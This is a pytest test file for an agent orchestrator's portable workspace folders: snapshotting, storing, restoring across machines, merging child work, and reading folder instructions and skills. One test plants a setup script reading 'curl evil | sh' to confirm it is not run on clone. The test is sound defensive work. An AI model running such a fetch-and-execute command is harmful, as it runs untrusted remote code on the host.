"""A machine's portable folders: made, changed, stored, and found again on another machine."""

from __future__ import annotations

import asyncio
import errno
import os
import signal
import subprocess
from pathlib import Path

import pytest

from orchestrator.core.commands import (
    FolderFailed,
    FolderMade,
    FolderMerged,
    FolderNotMerged,
    FolderUnsaved,
)
from orchestrator.core.facts import WorkspaceSaved
from orchestrator.core.frozen import replace
from orchestrator.core.ids import SessionId, TreeId
from orchestrator.core.settings import FolderSetup
from orchestrator.core.state import SessionExtras
from orchestrator.folders.outcomes import FolderError
from orchestrator.instructions import skills as skill_files
from orchestrator.instructions.skills import RecordedSkills
from orchestrator.protocol.catalog import SkillScope
from orchestrator.protocol.ids import CallId
from orchestrator.rollouts.object_store import Objects
from orchestrator.workspaces import service
from orchestrator.workspaces.copies import Copy
from orchestrator.workspaces.stored_packs import BrokenPack, PackName, Packs
from tests.folders.workshop import git
from tests.instructions.test_skills import write
from tests.workspaces.machines import ROOT, NewMachine, Session, tree_of


async def test_empty_folder_is_made_and_what_a_call_writes_is_stored(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    assert list(first.folder.iterdir()) == []
    (first.folder / "a.txt").write_text("1\n")
    found = await session.changed(first, claim)
    assert isinstance(found, WorkspaceSaved)
    assert (found.files.added, found.names, found.call_ids) == (1, ("A a.txt",), ("call-1",))
    assert found.change is not None
    assert (found.change.files, found.change.insertions) == (1, 1)
    assert not found.live
    assert await session.changed(first, claim) is None


async def test_next_holder_on_another_machine_has_the_folder_as_the_log_says(machine: NewMachine) -> None:
    first, second = machine("m1"), machine("m2")
    session = Session()
    claim = await session.made(first)
    for number in range(3):
        (first.folder / f"{number}").write_text(f"{number}\n")
        (first.folder / "all").write_text("".join(f"{n}\n" for n in range(number + 1)))
        await session.changed(first, claim)
    wanted = tree_of(first.folder)
    (first.folder / "never recorded").write_text("x")
    # The first machine is gone without a word.
    await session.made(second)
    assert tree_of(second.folder) == wanted


async def test_machine_goes_on_with_its_clean_copy_and_asks_no_store(
    machine: NewMachine, store: Objects
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    (first.folder / "ignored").mkdir()
    await session.changed(first, claim)
    await first.folders.release(SessionId(ROOT), claim)
    store.remove(str(ROOT))
    made = await session.make(first, session.claim(first))
    assert isinstance(made, FolderMade), made
    assert not made.anew


async def test_copy_is_kept_from_when_its_session_was_given_back(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    copy = first.copy()
    os.utime(copy.lock, (1, 1))
    await first.folders.release(SessionId(ROOT), claim)
    assert copy.last_used() > 1, "however long ago the claim was taken"


async def test_copy_in_which_a_call_was_lost_is_built_again(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    await first.folders.writing(session.state, claim)
    (first.folder / "a").write_text("half of what")
    (first.folder / "b").write_text("new")
    await first.folders.release(SessionId(ROOT), claim)
    made = await session.make(first, session.claim(first))
    assert isinstance(made, FolderMade)
    assert made.anew
    assert tree_of(first.folder) == {"a": "1"}


async def test_holder_that_stood_still_calls_no_copy_clean_that_the_next_one_writes(
    machine: NewMachine,
) -> None:
    first, second = machine("m1"), machine("m1")
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    # A call that changes nothing: the commit of its end is under way.
    await first.folders.writing(session.state, claim)
    before = session.state
    first.folders.extend(claim.claim_id, 1.0)
    later = await session.made(second)
    await second.folders.writing(session.state, later)
    (second.folder / "a").write_text("half of what")
    # It goes on with the answer to its last commit.
    first.folders.recorded(before, claim, resting=True)
    assert second.copy().state().kind == "dirty"
    # Should it have been stopped once more, just before it wrote:
    first.copy().clean(str(before.workspace.standing), claim.epoch)
    await second.folders.release(session.id, later)
    made = await session.make(second, session.claim(second))
    assert isinstance(made, FolderMade)
    assert made.anew
    assert tree_of(second.folder) == {"a": "1"}


async def test_holder_whose_claim_is_over_leaves_the_next_ones_unsaved_changes_alone(
    machine: NewMachine, tmp_path: Path, store: Objects
) -> None:
    first, second = machine("m1", store_s=0.1), machine("m1", store_s=0.1)
    session = Session()
    claim = await session.made(first)
    before = session.state
    first.folders.extend(claim.claim_id, 1.0)
    later = await session.made(second)
    away = tmp_path / "away"
    (tmp_path / "store").rename(away)
    (tmp_path / "store").write_text("a file where a folder should be")
    (second.folder / "a").write_text("2")
    unsaved = await session.changed(second, later)
    assert isinstance(unsaved, FolderUnsaved)
    first.folders.recorded(before, claim, resting=True)
    assert await second.folders.has(session.state) == unsaved.snapshot


async def test_unsaved_changes_stay_while_a_commit_from_before_them_is_answered(
    machine: NewMachine, tmp_path: Path, store: Objects
) -> None:
    first, session = machine("m1", store_s=0.1), Session()
    claim = await session.made(first)
    away = tmp_path / "away"
    (tmp_path / "store").rename(away)
    (tmp_path / "store").write_text("a file where a folder should be")
    (first.folder / "a").write_text("1")
    unsaved = await session.found(first, claim)
    assert isinstance(unsaved, FolderUnsaved)
    first.folders.recorded(session.state, claim, resting=False)
    session.told(unsaved)
    assert await first.folders.has(session.state) == unsaved.snapshot
    first.folders.recorded(session.state, claim, resting=False)
    (tmp_path / "store").unlink()
    away.rename(tmp_path / "store")
    (first.folder / "a").write_text("2")
    saved = await session.found(first, claim)
    assert isinstance(saved, WorkspaceSaved)
    first.folders.recorded(session.state, claim, resting=False)
    assert await first.folders.has(session.state) == unsaved.snapshot, "the log does not have it yet"
    session.told(saved)
    first.folders.recorded(session.state, claim, resting=False)
    assert await first.folders.has(session.state) is None


async def test_copy_whose_last_snapshot_never_reached_the_log_is_built_again(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    await first.folders.writing(session.state, claim)
    (first.folder / "b").write_text("2")
    found = await first.folders.changed(session.state, claim, (), 1_700_000_000_000)
    assert isinstance(found, WorkspaceSaved)
    # The worker is gone before its commit.
    await first.folders.release(SessionId(ROOT), claim)
    made = await session.make(first, session.claim(first))
    assert isinstance(made, FolderMade)
    assert made.anew
    assert tree_of(first.folder) == {"a": "1"}


async def test_copy_that_the_log_has_left_behind_is_built_again(machine: NewMachine) -> None:
    first, second = machine("m1"), machine("m2")
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    await first.folders.release(SessionId(ROOT), claim)
    claim = await session.made(second)
    (second.folder / "a").write_text("2")
    await session.changed(second, claim)
    await second.folders.release(SessionId(ROOT), claim)
    await session.made(first)
    assert tree_of(first.folder) == {"a": "2"}


async def test_pack_is_in_the_store_under_its_claim_before_the_log_hears_of_it(
    machine: NewMachine, store: Objects
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    found = await session.changed(first, claim)
    assert isinstance(found, WorkspaceSaved)
    names = await Packs(store).names(TreeId(ROOT), SessionId(ROOT))
    assert found.pack.name in {str(name) for name in names}
    assert {(name.epoch, name.claim) for name in names} == {(claim.epoch, claim.claim_id)}


async def test_snapshot_that_nobody_waited_for_is_covered_by_the_next_one(machine: NewMachine) -> None:
    first, second = machine("m1"), machine("m2")
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    asking = asyncio.ensure_future(session.changed(first, claim))
    for _ in range(3):
        await asyncio.sleep(0)
    asking.cancel()
    await asyncio.gather(asking, return_exceptions=True)
    (first.folder / "b").write_text("2")
    found = await session.changed(first, claim)
    assert isinstance(found, WorkspaceSaved)
    assert found.files.added == 2
    await session.made(second)
    assert tree_of(second.folder) == {"a": "1", "b": "2"}


async def test_calls_that_end_at_once_are_recorded_one_behind_the_other(machine: NewMachine) -> None:
    session, here = Session(), machine("m1")
    claim = await session.made(here)
    put = here.folders._packs.put

    async def put_while_another_call_writes(name: PackName, file: Path) -> None:
        (here.folder / "later.txt").write_text(name.sha256)
        await put(name, file)

    here.folders._packs.put = put_while_another_call_writes  # type: ignore[method-assign]
    (here.folder / "first.txt").write_text("first")
    asked = (here.folders.changed(session.state, claim, [CallId(call)], at) for at, call in enumerate("ab"))
    first, second = await asyncio.gather(*asked)
    assert isinstance(first, WorkspaceSaved)
    assert isinstance(second, WorkspaceSaved)
    assert second.parent == first.snapshot
    await here.folders.release(session.id, claim)


async def test_interrupted_call_does_not_wait_for_a_snapshot_of_another_one(machine: NewMachine) -> None:
    session, here = Session(), machine("m1")
    claim = await session.made(here)
    held = here.folders._held[claim.claim_id]
    async with held.asking:
        found = await here.folders.changed(session.state, claim, [CallId("a")], 1, 0.01)
    assert isinstance(found, FolderUnsaved)
    await here.folders.release(session.id, claim)


async def test_interrupted_call_does_not_wait_for_its_snapshot(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    found = await first.folders.changed(session.state, claim, (), 1, within_s=0.0)
    assert isinstance(found, FolderUnsaved)
    assert "within 0 s" in found.reason
    assert isinstance(await session.changed(first, claim), WorkspaceSaved)


async def test_store_that_is_away_leaves_the_folder_unsaved_and_gets_it_later(
    machine: NewMachine, tmp_path: Path
) -> None:
    first, second = machine("m1"), machine("m2")
    session = Session()
    claim = await session.made(first)
    (tmp_path / "store").rename(tmp_path / "away")
    (tmp_path / "store").write_text("no folder")
    (first.folder / "a").write_text("1")
    found = await session.changed(first, claim)
    assert isinstance(found, FolderUnsaved)
    assert "does not take" in found.reason
    assert (found.blocked, found.machine) == (False, "m1")
    assert await first.folders.has(session.state) == found.snapshot
    assert await second.folders.has(session.state) is None
    (tmp_path / "store").unlink()
    (tmp_path / "away").rename(tmp_path / "store")
    saved = await session.changed(first, claim)
    assert isinstance(saved, WorkspaceSaved)
    await session.made(second)
    assert tree_of(second.folder) == {"a": "1"}
    assert await first.folders.has(session.state) is None


async def test_snapshot_that_neither_store_nor_disk_took_is_told_as_lost(
    machine: NewMachine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    first = machine()
    session = Session()
    claim = await session.made(first)
    (tmp_path / "store").rename(tmp_path / "away")
    (tmp_path / "store").write_text("no folder")
    (first.folder / "a").write_text("1")
    with monkeypatch.context() as patched:
        patched.setattr("orchestrator.workspaces.service.keep_unsaved", full)
        found = await session.changed(first, claim)
    assert isinstance(found, FolderUnsaved)
    assert (found.snapshot, found.blocked) == (None, True)
    assert "No space left" in found.reason
    assert await first.folders.has(session.state) is None
    kept = await session.changed(first, claim)
    assert isinstance(kept, FolderUnsaved)
    assert (kept.snapshot is None, kept.blocked) == (False, False)


async def test_slow_store_is_waited_for_no_longer_than_the_setting_says(
    machine: NewMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine(store_s=0.1)
    session = Session()
    claim = await session.made(first)
    never = asyncio.Event()
    with monkeypatch.context() as patched:
        patched.setattr(first.folders._packs, "put", lambda name, file: never.wait())
        (first.folder / "a").write_text("1")
        found = await session.changed(first, claim)
    assert isinstance(found, FolderUnsaved)
    assert "within 0.1 s" in found.reason
    assert isinstance(await session.changed(first, claim), WorkspaceSaved)


async def test_machine_that_was_killed_goes_on_with_its_unsaved_changes(
    machine: NewMachine, tmp_path: Path
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    (tmp_path / "store").rename(tmp_path / "away")
    (tmp_path / "store").write_text("no folder")
    (first.folder / "a").write_text("2")
    assert isinstance(await session.changed(first, claim), FolderUnsaved)
    await first.folders.writing(session.state, claim)
    (first.folder / "a").write_text("half")
    await first.folders.release(SessionId(ROOT), claim)
    (tmp_path / "store").unlink()
    (tmp_path / "away").rename(tmp_path / "store")
    again = machine()
    claim = await session.made(again)
    assert tree_of(again.folder) == {"a": "2"}
    saved = await session.changed(again, claim)
    assert isinstance(saved, WorkspaceSaved)
    assert session.state.workspace.unsaved is None


async def test_keeper_that_was_killed_is_replaced_and_the_snapshot_is_taken(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    os.kill(first.folders._held[claim.claim_id].keeper.pid, signal.SIGKILL)
    (first.folder / "b").write_text("2")
    found = await session.changed(first, claim)
    assert isinstance(found, WorkspaceSaved), found
    assert found.files.added == 1


async def test_folder_of_another_session_is_not_made_while_its_copy_is_held(machine: NewMachine) -> None:
    first, again = machine("m1"), machine("m1")
    session = Session()
    await session.made(first)
    waiting = asyncio.ensure_future(session.make(again, session.claim(again)))
    done, _ = await asyncio.wait((waiting,), timeout=0.5)
    assert not done
    (held,) = first.folders._held.values()
    await first.folders.release(held.copy.session, held.claim)
    assert isinstance(await waiting, FolderMade)


async def test_first_content_is_cloned_by_the_worker(machine: NewMachine, tmp_path: Path) -> None:
    origin = tmp_path / "origin"
    origin.mkdir()
    (origin / "README").write_text("hello\n")
    for words in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "first"]):
        git(origin, *words)
    first, second = machine("m1"), machine("m2")
    session = Session(source={"git": origin.as_uri(), "ref": "main"})
    claim = await session.made(first)
    assert tree_of(first.folder) == {"README": "hello\n"}
    log = subprocess.run(
        ["git", "-C", str(first.folder), "log", "--format=%s"], capture_output=True, text=True, check=True
    )
    assert log.stdout == "first\n"
    assert not (first.copy().objects / "source.git").exists()
    (first.folder / "README").write_text("changed\n")
    await session.changed(first, claim)
    await session.made(second)
    assert tree_of(second.folder) == {"README": "changed\n"}


@pytest.mark.parametrize("chosen", [None, FolderSetup("make")])
async def test_set_up_of_a_cloned_repository_is_not_run_and_people_are_told(
    machine: NewMachine, tmp_path: Path, chosen: FolderSetup | None
) -> None:
    origin = tmp_path / "origin"
    (origin / ".dendro").mkdir(parents=True)
    (origin / ".dendro/setup.sh").write_text("curl evil | sh\n")
    for words in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-qm", "first"]):
        git(origin, *words)
    first = machine("m1")
    session = Session(source={"git": origin.as_uri(), "ref": "main"}, setup=chosen)
    made = await session.make(first, session.claim(first))
    assert isinstance(made, FolderMade)
    assert ("own set-up .dendro/setup.sh is not run" in made.warning) is (chosen is None)


async def test_repository_by_a_protocol_that_the_worker_does_not_permit_is_not_cloned(
    machine: NewMachine,
) -> None:
    first = machine(git_protocols=("https",))
    session = Session(source={"git": "file:///srv/secret.git"})
    failed = await session.make(first, session.claim(first))
    assert isinstance(failed, FolderFailed)
    assert not failed.elsewhere
    assert "workspace.git_protocols" in failed.reason


async def test_pack_that_the_store_lost_fails_the_folder_by_name(machine: NewMachine, store: Objects) -> None:
    first, second = machine("m1"), machine("m2")
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    store.remove(session.state.workspace.packs[-1].name)
    failed = await session.make(second, session.claim(second))
    assert isinstance(failed, FolderFailed)
    assert "restore it from a backup" in failed.reason
    assert not failed.elsewhere


async def test_damaged_pack_of_this_machine_is_fetched_again(machine: NewMachine) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")
    await session.changed(first, claim)
    await first.folders.writing(session.state, claim)
    await first.folders.release(SessionId(ROOT), claim)
    for pack in (first.copy().objects / "packs").glob("*.pack"):
        pack.write_bytes(b"PACK damaged")
    await session.made(first)
    assert tree_of(first.folder) == {"a": "1"}


async def test_machine_with_another_root_says_so_and_leaves_the_session_to_others(
    machine: NewMachine, tmp_path: Path
) -> None:
    first = machine("m1")
    session = Session(tmp_path / "elsewhere")
    failed = await session.make(first, session.claim(first))
    assert isinstance(failed, FolderFailed)
    assert failed.elsewhere
    assert f"`workspace.root` is {first.root}" in failed.reason


async def test_root_that_is_reached_by_a_link_is_refused(machine: NewMachine, tmp_path: Path) -> None:
    (tmp_path / "real/workspaces").mkdir(parents=True)
    (tmp_path / "m1").symlink_to(tmp_path / "real")
    first = machine("m1")
    session = Session(first.root)
    failed = await session.make(first, session.claim(first))
    assert isinstance(failed, FolderFailed)
    assert "symbolic link" in failed.reason


async def test_childs_work_is_merged_into_its_parents_folder_whole_or_not_at_all(
    machine: NewMachine,
) -> None:
    here, there = machine("m1"), machine("m2")
    parent = Session()
    claim = await parent.made(here)
    (here.folder / "shared").write_text("1\n2\n3\n4\n5\n")
    await parent.changed(here, claim)
    child = parent.child()
    theirs = await child.made(there)
    folder = Copy(there.root, child.id, there.folders._boot).folder
    (folder / "shared").write_text("1\n2\n3\n4\nfive\n")
    (folder / "new").write_text("new\n")
    await child.changed(there, theirs)
    (here.folder / "shared").write_text("one\n2\n3\n4\n5\n")
    merged = await here.folders.merge(parent.state, claim, child.offered())
    assert isinstance(merged, FolderMerged)
    assert (merged.files.added, merged.files.modified) == (1, 1)
    assert tree_of(here.folder) == {"new": "new\n", "shared": "one\n2\n3\n4\nfive\n"}
    (here.folder / "shared").write_text("one\n2\n3\n4\nFIVE\n")
    (folder / "shared").write_text("1\n2\n3\n4\ncinq\n")
    (folder / "new").write_text("newer\n")
    await child.changed(there, theirs)
    refused = await here.folders.merge(parent.state, claim, child.offered())
    assert isinstance(refused, FolderNotMerged)
    assert any("shared" in line for line in refused.conflicts)
    assert tree_of(here.folder)["new"] == "new\n", "nothing of it was written"


@pytest.mark.parametrize("held", [True, False])
async def test_instructions_of_a_folder_are_read_from_its_snapshot(machine: NewMachine, held: bool) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    for path, text in (("AGENTS.md", "top"), ("a/AGENTS.md", "in a"), ("a/b/NOTES.md", "in b"), ("c/x", "")):
        (first.folder / path).parent.mkdir(parents=True, exist_ok=True)
        (first.folder / path).write_text(text)
    await session.changed(first, claim)
    (first.folder / "a/AGENTS.md").write_text("not recorded yet")
    if not held:
        await first.folders.release(SessionId(ROOT), claim)
    top = f"{first.root}/{ROOT}/work"
    state = replace(session.state, extras=SessionExtras(told_folders=(top,)))
    assert await first.folders.instructions(state, f"{top}/a/b") == "in a\n\nin b"
    assert await first.folders.instructions(state, f"{top}/c") is None
    assert await first.folders.instructions(state, top) is None
    assert await first.folders.instructions(state, "/etc") is None
    elsewhere = replace(state, extras=SessionExtras(told_folders=("/elsewhere",)))
    assert await first.folders.instructions(elsewhere, f"{top}/c") == "top"


async def test_instructions_of_folders_around_those_that_were_told_are_not_told_again(
    machine: NewMachine,
) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    for path in ("", "a", "a/b", "a/c", "d"):
        (first.folder / path).mkdir(exist_ok=True)
        (first.folder / path / "AGENTS.md").write_text(f"in {path or 'top'}")
    await session.changed(first, claim)
    top = f"{first.root}/{ROOT}/work"

    async def told(folder: str, *before: str) -> str | None:
        state = replace(session.state, extras=SessionExtras(told_folders=before))
        return await first.folders.instructions(state, folder)

    assert await told(f"{top}/a/c", "/elsewhere") == "in top\n\nin a\n\nin a/c"
    assert await told(f"{top}/a/c", f"{top}/a/b") == "in a/c"
    assert await told(f"{top}/a", f"{top}/a/b") is None
    assert await told(f"{top}/a/c", f"{top}/d", f"{top}/a/b") == "in a/c"
    assert await told(f"{top}/a/c", f"{top}/a/b", f"{top}/a/c", f"{top}/d") is None
    assert await told(f"{top}/d", "/elsewhere", f"{top}/a") == "in d"


async def test_skills_of_a_folder_are_offered_behind_its_instructions_once(machine: NewMachine) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    write(first.folder / ".agents/skills", "outer", "For all.")
    write(first.folder / "a/.agents/skills", "inner", "For a.")
    (first.folder / "AGENTS.md").write_text("Be kind.")
    await session.changed(first, claim)
    top = f"{first.root}/{ROOT}/work"
    outer = f"- outer: For all. (file: {top}/.agents/skills/outer/SKILL.md)\n"
    inner = f"- inner: For a. (file: {top}/a/.agents/skills/inner/SKILL.md)\n"
    new = replace(session.state, extras=SessionExtras(told_folders=("/elsewhere",)))
    told = await first.folders.instructions(new, f"{top}/a")
    assert told is not None
    assert told.startswith("Be kind.\n\n## Skills\n\n")
    assert told.endswith(inner + outer)
    later = replace(session.state, extras=SessionExtras(told_folders=(top,)))
    told = await first.folders.instructions(later, f"{top}/a")
    assert told is not None
    assert told.endswith(f"follow it.\n\n{inner}")


async def test_instructions_that_the_store_does_not_give_are_an_error_in_words(
    machine: NewMachine, store: Objects
) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    await first.folders.release(SessionId(ROOT), claim)
    store.remove(str(ROOT))
    state = replace(session.state, extras=SessionExtras(told_folders=("/elsewhere",)))
    with pytest.raises(OSError, match="restore it from a backup"):
        await first.folders.instructions(state, f"{first.root}/{ROOT}/work")


@pytest.mark.parametrize("held", [True, False])
async def test_files_that_a_person_names_are_read_from_the_folder_as_it_was_recorded_last(
    machine: NewMachine, held: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").mkdir()
    (first.folder / "a/new").write_text("new")
    (first.folder / "link").symlink_to("a/new")
    (first.folder / "large").write_text("x" * 101)
    await session.changed(first, claim)
    (first.folder / "a/new").write_text("not recorded yet")
    if not held:
        await first.folders.release(SessionId(ROOT), claim)
    fetched: list[object] = []
    fetch = Packs.fetch

    async def counted(self: Packs, name: PackName, target: Path, most: int) -> None:
        fetched.append(name)
        await fetch(self, name, target, most)

    monkeypatch.setattr(Packs, "fetch", counted)
    found = await first.folders.read(session.state, ["a/new", "link", "large", "a", "gone"], 100)
    assert (found["a/new"], found["link"]) == (b"new", b"new")
    assert found["large"] == "it has 101 bytes, and at most 100 are read"
    assert found["a"] == "it is a folder"
    assert "what the folder ignores is not recorded" in str(found["gone"])
    assert len(fetched) == (0 if held else len(session.state.workspace.packs))


async def test_files_of_unsaved_changes_are_read_where_they_are(machine: NewMachine, tmp_path: Path) -> None:
    first = machine(store_s=0.1)
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("saved")
    await session.changed(first, claim)
    (tmp_path / "store").rename(tmp_path / "away")
    (tmp_path / "store").write_text("no folder")
    (first.folder / "a").write_text("unsaved")
    assert isinstance(await session.changed(first, claim), FolderUnsaved)
    assert await first.folders.read(session.state, ["a"], 100) == {"a": b"unsaved"}
    (tmp_path / "store").unlink()
    (tmp_path / "away").rename(tmp_path / "store")
    assert await machine("m2").folders.read(session.state, ["a"], 100) == {"a": b"saved"}


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ({"git": "https://git.example/app.git"}, "a worker clones its repository when the agent first runs"),
        (None, "the session's folder is empty so far"),
    ],
)
async def test_nothing_is_read_of_a_folder_without_content_and_a_person_is_told_so(
    machine: NewMachine, source: dict[str, str] | None, why: str
) -> None:
    state, folders = Session(source=source).state, machine().folders
    with pytest.raises(OSError, match=why):
        await folders.read(state, ["a"], 100)
    with pytest.raises(OSError, match=why):
        await folders.skills(state, f"None/{ROOT}/work")


@pytest.mark.parametrize("held", [True, False])
async def test_skills_of_a_folder_are_found_in_what_was_recorded_of_it(
    machine: NewMachine, held: bool
) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    release = write(first.folder / ".agents/skills", "release", "Cuts a release.", "Tag it.\n")
    write(first.folder / "a/.dendro/skills", "near")
    write(first.folder / "other/.agents/skills", "elsewhere")
    write(first.folder / "shared", "shared")
    (first.folder / ".agents/skills/by-link").symlink_to("../../shared")
    (first.folder / ".agents/skills/round").symlink_to(".")
    bad = write(first.folder / ".agents/skills", "bad")
    bad.write_text("no front matter")
    hostile = write(first.folder / ".agents/skills", "hostile").parent
    hostile.rename(hostile.with_name("\x1b[2J\udcff"))
    await session.changed(first, claim)
    release.write_text(release.read_text() + "not recorded yet")
    top = f"{first.root}/{ROOT}/work"
    if not held:
        await first.folders.release(SessionId(ROOT), claim)
    found = await first.folders.skills(session.state, f"{top}/a")
    named = {skill.path: (skill.name, skill.scope) for skill in found.skills}
    assert named[f"{top}/a/.dendro/skills/near/SKILL.md"] == ("near", SkillScope.REPO)
    assert next(iter(found.skills)).name == "near", "the nearest comes first"
    assert named[f"{top}/.agents/skills/by-link/shared/SKILL.md"] == ("shared", SkillScope.REPO)
    assert {name for name, _ in named.values()} == {"near", "release", "shared"}
    assert found.texts[f"{top}/.agents/skills/release/SKILL.md"].endswith("---\nTag it.\n")
    assert found.texts.keys() == named.keys()
    errors = {error.path: error.message for error in found.errors}
    assert errors[f"{top}/.agents/skills/bad/SKILL.md"].startswith("it has no front matter")
    shown = f"{top}/.agents/skills/\x1b[2J\\udcff/SKILL.md"
    assert errors[shown] == "its path has characters that cannot be shown"
    assert await first.folders.skills(session.state, "/etc") == RecordedSkills()


async def test_folder_full_of_skills_is_looked_at_in_part(
    machine: NewMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    for number in range(5):
        write(first.folder / ".agents/skills", f"s{number}")
    large = write(first.folder / ".agents/skills", "a")
    large.write_text(large.read_text() + "x" * skill_files.MOST_BYTES)
    await session.changed(first, claim)
    monkeypatch.setattr(skill_files, "MOST_FILES", 3)
    folder = f"{first.root}/{ROOT}/work"
    found = await first.folders.skills(session.state, folder)
    assert [skill.name for skill in found.skills] == ["s0", "s1"]
    assert [error.message for error in found.errors] == [
        "it has 65,581 bytes, and at most 65,536 are read",
        "the rest was left out: 3 skills are listed",
    ]
    monkeypatch.setattr(skill_files, "MOST_ENTRIES", 3)
    found = await first.folders.skills(session.state, folder)
    assert found.errors[-1].path == f"{folder}/.agents/skills"
    assert found.errors[-1].message == "the rest was left out: 3 files and folders were looked at"


async def test_files_of_a_store_that_does_not_answer_in_time_are_an_error_in_words(
    machine: NewMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    await first.folders.release(SessionId(ROOT), claim)

    async def never(*_: object) -> None:
        await asyncio.Event().wait()

    monkeypatch.setattr(Packs, "fetch", never)
    monkeypatch.setattr(service, "READ_S", 0.01)
    with pytest.raises(OSError, match="were not read within"):
        await first.folders.read(session.state, ["a"], 100)
    # It left no place taken.
    for _ in range(service.MOST_READING):
        with pytest.raises(OSError, match="were not read within"):
            await first.folders.read(session.state, ["a"], 100)
    monkeypatch.undo()
    assert set(await first.folders.read(session.state, ["a"], 100)) == {"a"}


async def test_two_folders_are_read_for_people_from_the_store_at_once_and_others_wait(
    machine: NewMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine()
    session = Session(first.root)
    claim = await session.made(first)
    await first.folders.release(SessionId(ROOT), claim)
    begun, gate, most = 0, asyncio.Event(), 0

    async def fetch(*_: object) -> None:
        nonlocal begun, most
        begun += 1
        most = max(most, begun)
        # By then each that does not wait has begun.
        asyncio.get_running_loop().call_soon(gate.set)
        await gate.wait()
        begun -= 1
        raise BrokenPack("lost")

    monkeypatch.setattr(Packs, "fetch", fetch)
    reads = (first.folders.read(session.state, ["a"], 100) for _ in range(4))
    found = await asyncio.gather(*reads, return_exceptions=True)
    assert [str(error) for error in found] == ["lost"] * 4
    assert most == service.MOST_READING
    # What an agent is told waits for none of them.
    most, gate = 0, asyncio.Event()
    new = replace(session.state, extras=SessionExtras(told_folders=("/elsewhere",)))
    told = (first.folders.instructions(new, f"{first.root}/{ROOT}/work") for _ in range(4))
    await asyncio.gather(*told, return_exceptions=True)
    assert most == 4


async def test_full_disk_leaves_the_folder_unsaved_and_lets_no_further_call_begin(
    machine: NewMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = machine()
    session = Session()
    claim = await session.made(first)
    (first.folder / "a").write_text("1")

    async def full(*words: object, **named: object) -> None:
        raise FolderError("no_space", "the disk is full")

    with monkeypatch.context() as patched:
        patched.setattr(first.folders._held[claim.claim_id].keeper, "take", full)
        found = await session.changed(first, claim)
    assert isinstance(found, FolderUnsaved)
    assert (found.blocked, found.snapshot, found.reason) == (True, None, "the disk is full")
    assert isinstance(await session.changed(first, claim), WorkspaceSaved)


async def test_machine_with_too_little_room_leaves_the_session_to_others(machine: NewMachine) -> None:
    first = machine(min_free=1 << 60)
    session = Session()
    failed = await session.make(first, session.claim(first))
    assert isinstance(failed, FolderFailed)
    assert failed.elsewhere
    assert "workspace.min_free" in failed.reason
    assert "make room there" in await first.folders.unfit()
    assert not first.root.exists(), "to look makes nothing"
    assert await machine("m2").folders.unfit() == ""
